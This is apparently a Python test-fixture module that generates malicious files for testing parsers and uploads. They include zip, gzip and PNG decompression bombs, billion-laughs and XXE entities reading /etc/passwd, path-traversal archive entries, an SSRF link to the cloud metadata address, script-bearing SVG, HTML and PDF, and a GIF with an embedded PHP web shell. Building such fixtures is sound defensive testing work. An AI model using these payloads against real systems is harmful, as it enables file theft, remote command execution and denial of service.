"""Files that mean harm, each made when asked for: bombs, external entities, disguises, depth, width, numbers, names."""

import gzip
import io
import json
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache
from itertools import pairwise

from PIL import Image

ROOM = b" " * 1_000_000
SVG = "<svg xmlns='http://www.w3.org/2000/svg' xmlns:x='http://www.w3.org/1999/xlink'>{}</svg>"
XXE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
LAUGHS = "<!DOCTYPE a [<!ENTITY l0 'lol'>" + "".join(
    f"<!ENTITY l{after} '{f'&l{before};' * 10}'>" for before, after in pairwise(range(10))
)
RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Target="{}"{} '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"/></Relationships>'
)
BOOK = (
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
    '<sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>'
)


def archive(*members: tuple[str, bytes | str]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in members:
            made.writestr(name, content)
    return stream.getvalue()


def book(sheet: str, target: str = "worksheets/sheet1.xml", more: str = "") -> bytes:
    """A workbook of one sheet, whose XML is `sheet`."""
    return archive(
        ("[Content_Types].xml", "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'/>"),
        ("xl/workbook.xml", BOOK),
        ("xl/_rels/workbook.xml.rels", RELATIONS.format(target, more)),
        ("xl/worksheets/sheet1.xml", sheet),
    )


def sheet_bomb() -> bytes:
    """Some tens of kilobytes that unpack to 60 MB of cells."""
    cells = '<row r="1">' + '<c t="inlineStr"><is><t>aaaaaaaaaa</t></is></c>' * 1_200_000 + "</row>"
    return book(f"<worksheet><sheetData>{cells}</sheetData></worksheet>")


def odf(content: str) -> bytes:
    return archive(("mimetype", "application/vnd.oasis.opendocument.spreadsheet"), ("content.xml", content))


def many_members() -> bytes:
    return archive(*((f"xl/{number}.xml", "") for number in range(20_000)))


def nested() -> bytes:
    content = archive(("0.zip", ROOM * 20))
    for depth in range(1, 6):
        content = archive(*((f"{depth}-{twin}.zip", content) for twin in range(10)))
    return content


def overlapping() -> bytes:
    """A directory that names one member a thousand times."""
    made = archive(("a.csv", ROOM))
    start = made.index(b"PK\x01\x02")
    end = made.index(b"PK\x05\x06")
    entry = made[start:end]
    size = len(entry) * 1_000
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 1_000, 1_000, size, start, 0)
    return made[:start] + entry * 1_000 + tail


def picture(kind: str, size: tuple[int, int] = (20, 20)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size).save(out, kind)
    return out.getvalue()


def png_of(width: int, height: int) -> bytes:
    """A PNG of some bytes that says it has that many pixels."""
    chunk = b"IHDR" + struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + chunk + struct.pack(">I", zlib.crc32(chunk))


def png_of_text() -> bytes:
    """A PNG whose comment unpacks to 50 MB."""
    chunk = b"zTXt" + b"a\0\0" + zlib.compress(ROOM * 50, 9)
    return png_of(10, 10) + struct.pack(">I", len(chunk) - 4) + chunk + struct.pack(">I", zlib.crc32(chunk))


def features(geometry: str, properties: str = '{"nom":"a"}') -> bytes:
    feature = f'{{"type":"Feature","properties":{properties},"geometry":{geometry}}}'
    return f'{{"type":"FeatureCollection","features":[{feature}]}}'.encode()


FILES: dict[str, Callable[[], bytes]] = {
    # Archives and workbooks
    "bomb.xlsx": sheet_bomb,
    "members.xlsx": many_members,
    "nested.zip": nested,
    "overlapping.zip": overlapping,
    "entities.xlsx": lambda: book(f"{LAUGHS}]><worksheet><sheetData>&l9;</sheetData></worksheet>"),
    "external.xlsx": lambda: book(f"{XXE}<worksheet><sheetData>&x;</sheetData></worksheet>"),
    "outside.xlsx": lambda: book("<worksheet/>", "file:///etc/passwd", ' TargetMode="External"'),
    "climbing.xlsx": lambda: book("<worksheet/>", "../../../../etc/passwd"),
    "climbing.zip": lambda: archive(("../../../../tmp/evil.csv", "nom\na\n"), ("/etc/evil.csv", "nom\na\n")),
    "deep.xlsx": lambda: book("<worksheet>" + "<a>" * 100_000 + "</a>" * 100_000 + "</worksheet>"),
    "wide.xlsx": lambda: book(
        '<worksheet><sheetData><row><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>'
    ),
    "entities.ods": lambda: odf(f"{LAUGHS}]><a>&l9;</a>"),
    "external.ods": lambda: odf(f"{XXE}<a>&x;</a>"),
    "repeated.ods": lambda: odf(
        '<o:x xmlns:o="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:t="urn:oasis:names:tc:opendocument:xmlns:table:1.0"><t:table t:name="a">'
        '<t:table-row t:number-rows-repeated="1048576"><t:table-cell t:number-columns-repeated="16384">'
        "<p>a</p></t:table-cell></t:table-row></t:table></o:x>"
    ),
    "broken.xlsx": lambda: b"PK\x03\x04" + bytes(range(256)) * 40,
    "cut.xlsx": lambda: book("<worksheet/>")[:-40],
    "bomb.csv.gz": lambda: gzip.compress(ROOM * 50),
    # Markup and maps
    "entities.kml": lambda: f"{LAUGHS}]><kml>&l9;</kml>".encode(),
    "external.kml": lambda: f"{XXE}<kml><Document><name>&x;</name></Document></kml>".encode(),
    "link.kml": lambda: (
        b"<kml><Document><NetworkLink><Link><href>http://169.254.169.254/</href></Link></NetworkLink></Document></kml>"
    ),
    "bomb.kmz": lambda: archive(("doc.kml", b"<kml>" + ROOM * 60)),
    "external.gpx": lambda: f"{XXE}<gpx><wpt lat='1' lon='2'><name>&x;</name></wpt></gpx>".encode(),
    "script.svg": lambda: SVG.format("<script>alert(1)</script>").encode(),
    "external.svg": lambda: SVG.format("<image x:href='file:///etc/passwd'/>").encode(),
    "page.html": lambda: b"<!doctype html><script>alert(1)</script>",
    "broken.gpkg": lambda: b"SQLite format 3\x00" + bytes(range(256)) * 40,
    # JSON
    "deep.json": lambda: b"[" * 200_000,
    "deep.geojson": lambda: features("[" * 50_000 + "]" * 50_000),
    "not-numbers.geojson": lambda: features('{"type":"Point","coordinates":[NaN,Infinity]}'),
    "huge-numbers.geojson": lambda: features('{"type":"Point","coordinates":[1e999,-1e999]}'),
    "long-number.json": lambda: b"[" + b"9" * 100_000 + b"]",
    "vertices.geojson": lambda: features(json.dumps({"type": "LineString", "coordinates": [[1, 2]] * 200_000})),
    "same-keys.json": lambda: b'{"features":[],' + b'"features":[],' * 50_000 + b'"a":1}',
    # Text
    "wide.csv": lambda: b";".join([b"nom"] * 200_000) + b"\n" + b";" * 200_000,
    "long-cell.csv": lambda: b"nom;lat;lon\n" + b"a" * 3_000_000,
    "quote.csv": lambda: b'nom;lat\n"' + b"a;b\n" * 5_000,
    "null.csv": lambda: b"nom\n" + b"\0" * 1_000_000,
    # Pictures and documents
    "pixels.png": lambda: png_of(50_000, 50_000),
    "nothing.png": lambda: png_of(0, 0),
    "comment.png": png_of_text,
    "cut.jpg": lambda: picture("JPEG", (800, 800))[:300],
    "photo.php.gif": lambda: picture("GIF") + b"<?php system($_GET['c']); ?>",
    "script.pdf": lambda: b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
    "nothing.csv": lambda: b"",
}


@cache
def made(name: str) -> bytes:
    """The file `name` of FILES, made once."""
    return FILES[name]()
